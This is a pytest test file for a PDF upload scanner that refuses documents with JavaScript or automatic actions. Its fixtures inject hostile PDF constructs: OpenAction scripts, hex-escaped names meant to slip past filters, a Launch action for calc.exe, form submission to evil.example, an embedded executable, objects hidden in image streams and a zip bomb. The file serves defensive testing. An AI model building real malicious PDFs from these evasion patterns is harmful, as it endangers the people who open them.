"""Uploaded PDFs with JavaScript or automatic actions are refused (issue 12, defect 8): core.volunteers.pdf_scan.

Every PDF here is a real one-page document (ops.demo_pdf) into which an action is injected, written with a classic
cross-reference table and again with its dictionaries compressed in an object stream (PDF 1.5).
"""

from __future__ import annotations

import base64
import zlib

import pytest

from core.shared.errors import ValidationError
from core.volunteers.documents import check_document
from core.volunteers.pdf_scan import (
    MAX_DECODED_BYTES,
    OPEN_ACTION,
    SCRIPT,
    TOO_BIG,
    UNREADABLE,
    find_active_content,
)
from ops.demo_pdf import assemble, stream_object, text_objects

CATALOG = b"<< /Type /Catalog /Pages 2 0 R"
PAGE = b"<< /Type /Page /Parent 2 0 R"
ALERT = b"<< /S /JavaScript /JS (app.alert\\('Renfort'\\);) >>"


def diploma(*, catalog: bytes = b"", page: bytes = b"", extra: list[bytes] = (), object_stream: bool = False,
            lines: list[str] = ("Délivré à Léa Martin",)) -> bytes:
    """The demo diploma with `catalog` and `page` added to those dictionaries and `extra` objects from number 6."""
    objects = text_objects("Diplôme d'État d'infirmier", list(lines))
    objects[0] = objects[0].replace(CATALOG, CATALOG + b" " + catalog) if catalog else objects[0]
    objects[2] = objects[2].replace(PAGE, PAGE + b" " + page) if page else objects[2]
    return assemble([*objects, *extra], object_stream=object_stream)


BOTH_LAYOUTS = pytest.mark.parametrize("object_stream", [False, True], ids=["table", "flux-objets"])

REFUSED = {
    "ouverture-javascript": (dict(catalog=b"/OpenAction 6 0 R", extra=[ALERT]), SCRIPT),
    "ouverture-javascript-en-place": (dict(catalog=b"/OpenAction " + ALERT), SCRIPT),
    "nom-echappe-J#61vaScript": (dict(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"), SCRIPT),
    "nom-tout-echappe": (dict(catalog=b"/#4Fpen#41ction 6 0 R", extra=[b"<< /#53 /#4A#61#76#61#53#63#72#69#70#74 >>"]),
                         SCRIPT),
    "javascript-du-document": (dict(catalog=b"/Names << /JavaScript 6 0 R >>",
                                    extra=[b"<< /Names [(init) 7 0 R] >>", ALERT]), SCRIPT),
    "actions-de-la-page": (dict(page=b"/AA << /O 6 0 R >>", extra=[b"<< /S /GoTo /D [3 0 R /Fit] >>"]),
                           "des actions qui se lancent toutes seules"),
    "lancement-programme": (dict(catalog=b"/OpenAction << /S /Launch /F (C:\\\\Windows\\\\calc.exe) >>"),
                            "une commande qui lance un programme"),
    "adresse-ouverte-seule": (dict(catalog=b"/OpenAction << /S /URI /URI (https://evil.example/) >>"), OPEN_ACTION),
    "goto-suivi-d-une-action": (dict(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>",
                                     extra=[b"<< /S /URI /URI (https://evil.example/) >>"]), OPEN_ACTION),
    "reference-vers-une-action": (dict(catalog=b"/OpenAction 6 0 R",
                                       extra=[b"<< /S /SubmitForm /F (https://evil.example/) >>"]), OPEN_ACTION),
    "reference-vers-rien": (dict(catalog=b"/OpenAction 42 0 R"), OPEN_ACTION),
    "fichier-joint": (dict(catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
                           extra=[b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
                                  stream_object(b"MZ\x90\x00", b" /Type /EmbeddedFile")]), "des fichiers joints"),
    "formulaire-xfa": (dict(catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>",
                            extra=[stream_object(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")]),
                       "un formulaire dynamique"),
    "multimedia": (dict(page=b"/Annots [6 0 R]", extra=[b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"]),
                   "du contenu multimédia"),
}

ACCEPTED = {
    "document-simple": {},
    "page-de-depart-en-tableau": dict(catalog=b"/OpenAction [3 0 R /Fit]"),
    "page-de-depart-par-reference": dict(catalog=b"/OpenAction 6 0 R", extra=[b"[3 0 R /FitH 842]"]),
    "goto-de-latex-hyperref": dict(catalog=b"/OpenAction 6 0 R", extra=[b"<< /S /GoTo /D [3 0 R /Fit] >>"]),
    "lien-a-cliquer": dict(page=b"/Annots [6 0 R]", extra=[
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://www.sante.fr/) >> >>"]),
    # Words that look like names, where no viewer reads a name: the page's text, a title, a comment.
    "texte-qui-parle-de-javascript": dict(lines=["Module /JavaScript /JS /OpenAction /AA /Launch"]),
    "titre-et-commentaire": dict(catalog=b"/Lang (fr /JS) % /JavaScript /OpenAction << /S /Launch >>\n"),
}


@BOTH_LAYOUTS
@pytest.mark.parametrize("case", REFUSED, ids=list(REFUSED))
def test_a_pdf_with_active_content_is_found_out(case: str, object_stream: bool) -> None:
    pieces, what = REFUSED[case]
    finding = find_active_content(diploma(**pieces, object_stream=object_stream))
    assert finding is not None and finding.verifiable and what in finding.what, finding


@BOTH_LAYOUTS
@pytest.mark.parametrize("case", ACCEPTED, ids=list(ACCEPTED))
def test_a_pdf_without_active_content_is_accepted(case: str, object_stream: bool) -> None:
    assert find_active_content(diploma(**ACCEPTED[case], object_stream=object_stream)) is None


def test_bytes_of_an_image_that_spell_a_name_are_not_read_as_one() -> None:
    """A JPEG's bytes may spell « /JS » or « /AA » by chance: a stream's body is not PDF syntax."""
    image = stream_object(b"\xff\xd8\xff\xe0 /JS /AA /OpenAction /Launch (x) \xff\xd9",
                          b" /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 "
                          b"/ColorSpace /DeviceGray /Filter /DCTDecode")
    assert find_active_content(diploma(extra=[image])) is None


def test_an_object_hidden_inside_an_image_stream_is_read() -> None:
    """A cross-reference entry may point inside another stream's body: a viewer then reads the object there."""
    image = stream_object(b"\xff\xd8\xff\xe0 7 0 obj " + ALERT + b" endobj \xff\xd9",
                          b" /Subtype /Image /Filter /DCTDecode")
    finding = find_active_content(diploma(catalog=b"/OpenAction 7 0 R", extra=[image]))
    assert finding is not None and finding.what == SCRIPT


@pytest.mark.parametrize("encode", [
    lambda data: (base64.a85encode(data, adobe=True)[2:], b"/ASCII85Decode"),
    lambda data: (data.hex().encode() + b">", b"/ASCIIHexDecode"),
    lambda data: (base64.a85encode(zlib.compress(data), adobe=True)[2:], b"[/ASCII85Decode /FlateDecode]"),
], ids=["ascii85", "hex", "ascii85-puis-flate"])
def test_an_object_stream_under_other_filters_is_decoded_and_read(encode) -> None:  # noqa: ANN001
    data, filters = encode(b"6 0 " + ALERT)
    packed = stream_object(data, b" /Type /ObjStm /N 1 /First 4 /Filter " + filters)
    finding = find_active_content(diploma(catalog=b"/OpenAction 6 0 R", extra=[b"null", packed]))
    assert finding is not None and finding.what == SCRIPT


@pytest.mark.parametrize(("body", "entries", "why"), [
    (b"\x80\x0b\x60\x50", b" /Filter /LZWDecode", UNREADABLE),  # a filter the scan does not decode
    (b"not zlib at all, or encrypted bytes", b" /Filter /FlateDecode", UNREADABLE),
    (zlib.compress(b"6 0 <<>>"), b" /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>", UNREADABLE),
    (zlib.compress(b" " * (MAX_DECODED_BYTES + 1), 9), b" /Filter /FlateDecode", TOO_BIG),  # a « zip bomb »
], ids=["lzw", "illisible", "predicteur", "bombe"])
def test_an_object_stream_that_cannot_be_read_through_is_refused_as_unverifiable(
    body: bytes, entries: bytes, why: str
) -> None:
    packed = stream_object(body, b" /Type /ObjStm /N 1 /First 4" + entries)
    finding = find_active_content(diploma(extra=[packed]))
    assert finding is not None and not finding.verifiable and finding.what == why


def test_the_upload_check_refuses_it_in_french_naming_the_file_and_what_to_do() -> None:
    pdf = diploma(catalog=b"/OpenAction 6 0 R", extra=[ALERT], object_stream=True)
    with pytest.raises(ValidationError) as error:
        check_document("diplome", "diplome.pdf", pdf)
    assert error.value.field == "document_diplome"
    assert error.value.message == (
        "Diplôme : le fichier « diplome.pdf » est un PDF qui contient du code JavaScript : il est refusé par "
        "sécurité. Enregistrez le document de nouveau en PDF (menu « Imprimer », puis « Enregistrer au format "
        "PDF ») ou envoyez une photo ou un scan (JPEG ou PNG).")


def test_an_unverifiable_pdf_is_refused_saying_why() -> None:
    packed = stream_object(b"\x80\x0b\x60\x50", b" /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode")
    with pytest.raises(ValidationError) as error:
        check_document("identite", "carte.pdf", diploma(extra=[packed]))
    assert error.value.message.startswith(
        "Pièce d'identité : le fichier « carte.pdf » est un PDF que la plateforme ne peut pas vérifier (une partie "
        "en est chiffrée ou codée")
